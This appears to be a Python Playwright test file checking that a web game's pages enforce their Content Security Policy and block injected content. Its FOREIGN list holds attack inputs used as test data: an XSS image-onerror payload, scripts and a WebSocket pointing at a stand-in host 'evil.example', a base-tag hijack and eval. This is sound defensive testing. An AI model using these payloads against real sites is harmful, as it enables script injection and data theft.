"""The pages keep to the policy that they are sent with, and the policy keeps out what is not ours.

A breach of the policy is a console error, and those fail every browser test: so the games' own tests prove the same of
their screens.
"""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Invite
from tests.browser.server import Server

pytestmark = pytest.mark.browser

PAGES = ("", "new", "credits", "privacy", "open", "decks", "owner", "nowhere")
FOREIGN = {
    "an inline script": "put('script', { text: 'window.harmed = true' })",
    "a script of another site": "put('script', { src: 'http://evil.example/x.js' })",
    "text that becomes a page": "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
    "text that becomes code": "eval('1')",
    "a picture of another site": "put('img', { src: 'http://evil.example/x.png' })",
    "a frame": "put('iframe', { src: location.href })",
    "a socket elsewhere": "new WebSocket('ws://evil.example/')",
    "another base for all links": "put('base', { href: 'http://evil.example/' })",
    "a form that leads away": "put('form', { action: '/' }).submit()",
    "a style of its own": "put('style', { textContent: 'main { display: none }' })",
}
TRY = """() => new Promise((done) => {
  addEventListener("securitypolicyviolation", () => done("stopped"), { once: true });
  setTimeout(() => done("let in"), 10_000);
  const put = (kind, facts) => document.body.appendChild(Object.assign(document.createElement(kind), facts));
  setTimeout(() => { %s; }); // later, as the debugger may do what a page may not
})"""


def test_no_page_breaks_the_policy(house: Server, invite: Invite) -> None:
    ada = invite("Ada")
    ada.context.add_init_script(
        "addEventListener('securitypolicyviolation', ({ violatedDirective }) => "
        "console.error('against the policy:', violatedDirective))"
    )
    for path in PAGES:
        ada.page.goto(f"{house.address}/{path}")
        expect(ada.page.locator("h1").first).to_be_visible()
        expect(ada.page.locator("main .skeleton")).to_have_count(0)
        assert ada.complaints == [], path


def test_what_is_not_ours_is_stopped(house: Server, invite: Invite) -> None:
    ada = invite("Ada")
    for deed, code in FOREIGN.items():
        ada.page.goto(f"{house.address}/nowhere")
        expect(ada.page.locator("h1").first).to_be_visible()
        assert ada.page.evaluate(TRY % code) == "stopped", deed
        ada.complaints.clear()  # of exactly that
